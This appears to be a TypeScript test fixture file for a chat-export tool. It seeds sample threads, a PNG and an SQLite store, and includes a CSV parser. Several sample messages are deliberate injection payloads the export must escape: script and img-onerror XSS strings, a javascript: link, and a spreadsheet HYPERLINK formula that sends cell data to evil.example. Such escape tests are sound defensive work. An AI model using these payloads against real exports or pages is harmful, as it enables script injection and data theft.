// Sample threads and messages for the export tests, and a way to put them in a real SQLite store.
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { deflateSync } from 'node:zlib';
import type { Message, Thread } from '../../src/core/model.js';
import { emptyMedia } from '../../src/core/model.js';
import type { Store } from '../../src/store/store.js';
import { openSqliteStore } from '../../src/store/sqlite/sqlite-store.js';
import { DAY, message as storeMessage, thread } from '../store/fixtures.js';

export const ZOE_ID = '340282366841710300949128171234567890';
export const CLUB_ID = '340282366841710300949128179999999999';

export const ZOE: Thread = thread(ZOE_ID, {
  title: 'Zoë Müller',
  participants: [
    { userId: '1001', name: 'Zoë Müller', username: 'zoemuller' },
    { userId: '1000', name: 'Me', username: 'me' },
  ],
  source: 'api',
});

export const CLUB: Thread = thread(CLUB_ID, {
  title: 'Book club, "the" <best>',
  isGroup: true,
  participants: [
    { userId: '1002', name: 'Anna', username: 'anna' },
    { userId: '1003', name: 'Bob', username: null },
    { userId: '1000', name: 'Me', username: 'me' },
  ],
  archiveFolder: 'bookclub_123',
});

/** A 64x48 orange PNG, kept in the media folder as `ab/photo.png`. */
export const PHOTO_PATH = 'ab/photo.png';
export const PNG = solidPng(64, 48, [240, 120, 40]);

function crc32(data: Buffer): number {
  let crc = ~0;
  for (const byte of data) {
    crc ^= byte;
    for (let k = 0; k < 8; k += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return ~crc >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([head, body, crc]);
}

function solidPng(width: number, height: number, [r, g, b]: [number, number, number]): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const row = Buffer.concat([Buffer.from([0]), Buffer.from(Array.from({ length: width }, () => [r, g, b]).flat())]);
  const pixels = deflateSync(Buffer.concat(Array.from({ length: height }, () => row)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const XSS_SCRIPT = '<script>window.__pwned = 1</script>';
export const XSS_IMG = '<img src=x onerror="window.__pwned = 2">';

export const T0 = Date.UTC(2024, 2, 4, 9, 0, 0);

let counter = 0;
export function message(fields: Partial<Message> & Pick<Message, 'threadId'>): Message {
  counter += 1;
  return storeMessage(fields.threadId, `m${String(counter).padStart(4, '0')}`, {
    senderId: '1001',
    senderName: 'Zoë Müller',
    sentAt: T0 + counter * 60_000,
    text: `message ${counter}`,
    source: 'api',
    ...fields,
  });
}

/** Two threads covering every kind of content an export must render or escape. */
export function sampleMessages(): Message[] {
  const z = (fields: Partial<Message>) => message({ threadId: ZOE_ID, ...fields });
  const c = (fields: Partial<Message>) => message({ threadId: CLUB_ID, source: 'archive', ...fields });
  const me = { senderId: '1000', senderName: 'Me', fromMe: true };
  return [
    z({ id: 'z1', sentAt: T0, text: 'Hi Zoë! 👋' }),
    z({
      id: 'z2',
      sentAt: T0 + 60_000,
      ...me,
      text: 'Hello,\n"world"\r\nline three',
      reactions: [{ emoji: '❤️', actor: 'Zoë Müller', actorId: '1001', at: null }],
    }),
    z({ id: 'z3', sentAt: T0 + 120_000, text: XSS_SCRIPT }),
    z({ id: 'z4', sentAt: T0 + 180_000, text: XSS_IMG }),
    z({
      id: 'z5',
      sentAt: T0 + DAY,
      kind: 'photo',
      text: null,
      media: [emptyMedia('photo', { path: PHOTO_PATH, name: 'photo.png', mime: 'image/png', width: 1, height: 1 })],
      reactions: [
        { emoji: '😂', actor: 'Me', actorId: '1000', at: T0 + DAY + 1000 },
        { emoji: '😂', actor: 'Zoë Müller', actorId: '1001', at: null },
      ],
    }),
    z({ id: 'z6', sentAt: T0 + DAY + 60_000, ...me, text: 'nice photo', replyTo: 'z5' }),
    z({
      id: 'z7',
      sentAt: T0 + DAY + 120_000,
      kind: 'share',
      text: null,
      share: { url: 'https://www.instagram.com/p/abc/', text: 'A post (with) [brackets]', owner: 'natgeo' },
    }),
    z({
      id: 'z8',
      sentAt: T0 + DAY + 180_000,
      kind: 'share',
      text: null,
      share: { url: 'javascript:alert(1)', text: 'bad link', owner: null },
    }),
    z({ id: 'z9', sentAt: T0 + DAY + 240_000, text: '=HYPERLINK("http://evil.example/?"&A1,"click")' }),
    z({ id: 'z10', sentAt: T0 + DAY + 300_000, text: null, unsent: true }),
    z({
      id: 'z11',
      sentAt: T0 + DAY + 360_000,
      kind: 'video',
      text: null,
      media: [emptyMedia('video', { path: 'cd/missing.mp4', name: 'clip.mp4' })],
    }),
    c({
      id: 'c1',
      sentAt: T0 + 2 * DAY,
      senderId: '1002',
      senderName: 'Anna',
      text: '# not a heading\n- not a list\n1. not a list\n| a | b |',
    }),
    c({
      id: 'c2',
      sentAt: T0 + 2 * DAY + 60_000,
      senderId: '1003',
      senderName: 'Bob',
      text: '**bold** _it_ `code` [link](http://x) ![img](y) &amp; <b>',
      replyTo: 'c1',
    }),
    c({ id: 'c3', sentAt: T0 + 2 * DAY + 120_000, ...me, text: '' }),
    c({
      id: 'c4',
      sentAt: T0 + 2 * DAY + 180_000,
      senderId: null,
      senderName: 'Anna',
      kind: 'system',
      text: 'Anna named the group',
    }),
    c({
      id: 'c5',
      sentAt: T0 + 2 * DAY + 240_000,
      senderId: '1002',
      senderName: 'Anna',
      text: '+41 79 000 00 00, @bob, -5 °C',
    }),
  ];
}

export async function* iterate<T>(items: Iterable<T>): AsyncIterable<T> {
  for (const item of items) yield item;
}

/** The profile layout of `IGTG_HOME=home`: its store file and media folder. */
export function profilePaths(home: string): { dbFile: string; mediaDir: string; stateDir: string } {
  const root = join(home, 'profiles', 'default');
  return { dbFile: join(root, 'igtg.db'), mediaDir: join(root, 'media'), stateDir: join(root, 'state') };
}

export function writeSampleMedia(mediaDir: string): void {
  const file = join(mediaDir, PHOTO_PATH);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, PNG);
}

export async function withStore<T>(dbFile: string, action: (store: Store) => Promise<T>): Promise<T> {
  mkdirSync(dirname(dbFile), { recursive: true, mode: 0o700 });
  const store = await openSqliteStore(dbFile);
  try {
    return await action(store);
  } finally {
    await store.close();
  }
}

/** Stores the sample threads and messages (and the photo) in the profile of `home`. */
export async function seedSample(home: string): Promise<void> {
  const paths = profilePaths(home);
  writeSampleMedia(paths.mediaDir);
  await withStore(paths.dbFile, (store) => store.write({ threads: [ZOE, CLUB], messages: sampleMessages() }));
}

/** Adds `count` plain messages to a thread of its own, in batches (for the big-export tests). */
export async function seedBulk(dbFile: string, count: number, threadCount = 20): Promise<void> {
  await withStore(dbFile, async (store) => {
    const threads: Thread[] = Array.from({ length: threadCount }, (_, n) => ({
      ...ZOE,
      id: `bulk-${String(n).padStart(3, '0')}`,
      title: `Bulk thread ${n}`,
    }));
    await store.write({ threads });
    const batch = 5000;
    for (let start = 0; start < count; start += batch) {
      const messages: Message[] = [];
      for (let n = start; n < Math.min(count, start + batch); n += 1) {
        messages.push(
          storeMessage(threads[n % threadCount]!.id, `b${n}`, {
            senderId: n % 2 ? '1000' : '1001',
            senderName: n % 2 ? 'Me' : 'Zoë Müller',
            sentAt: T0 + n * 1000,
            text: `bulk message number ${n} with some words in it so the rows are not tiny`,
            fromMe: n % 2 === 1,
            source: 'api',
          }),
        );
      }
      await store.write({ messages });
    }
  });
}

/** Feeds messages (grouped by thread, in order) to a writer the way the export runner does. */
export async function writeAll(
  writer: import('../../src/export/types.js').ExportWriter,
  messages: Iterable<Message>,
  threads: Thread[] = [ZOE, CLUB],
): Promise<number> {
  let current: string | null = null;
  for (const item of messages) {
    if (item.threadId !== current) {
      if (current !== null) await writer.endThread();
      current = item.threadId;
      await writer.beginThread(threads.find((item) => item.id === current)!);
    }
    await writer.message(item);
  }
  if (current !== null) await writer.endThread();
  return writer.finish();
}

/**
 * An RFC 4180 reader for the tests: CRLF or LF rows, quoted fields with doubled quotes. An
 * unquoted empty field reads as null, a quoted empty one as "" (the convention of the csv export).
 */
export function parseCsv(text: string): Array<Array<string | null>> {
  const rows: Array<Array<string | null>> = [];
  let row: Array<string | null> = [];
  let i = 0;
  while (i < text.length) {
    let field: string | null;
    if (text[i] === '"') {
      let value = '';
      i += 1;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote === -1) throw new Error('unterminated quoted field');
        value += text.slice(i, quote);
        if (text[quote + 1] === '"') {
          value += '"';
          i = quote + 2;
        } else {
          i = quote + 1;
          break;
        }
      }
      field = value;
    } else {
      const end = text.slice(i).search(/[,\r\n]/);
      const raw = end === -1 ? text.slice(i) : text.slice(i, i + end);
      if (raw.includes('"')) throw new Error(`bare quote in field: ${raw}`);
      field = raw === '' ? null : raw;
      i += raw.length;
    }
    row.push(field);
    if (text[i] === ',') {
      i += 1;
    } else {
      if (text[i] === '\r' && text[i + 1] === '\n') i += 2;
      else if (text[i] === '\n' || text[i] === '\r') i += 1;
      else if (i < text.length) throw new Error(`unexpected character at ${i}`);
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

/** Rows of the csv export back into `show --json` message objects (plus thread_title). */
export function csvToMessages(text: string): Array<Record<string, unknown>> {
  const [header, ...rows] = parseCsv(text);
  return rows.map((row) => {
    const record: Record<string, unknown> = {};
    header!.forEach((name, index) => {
      const value = row[index] ?? null;
      if (name === 'media' || name === 'share' || name === 'reactions')
        record[name!] = value === null ? null : JSON.parse(value);
      else if (name === 'unsent' || name === 'from_me') record[name!] = value === 'true';
      else record[name!] = value;
    });
    return record;
  });
}
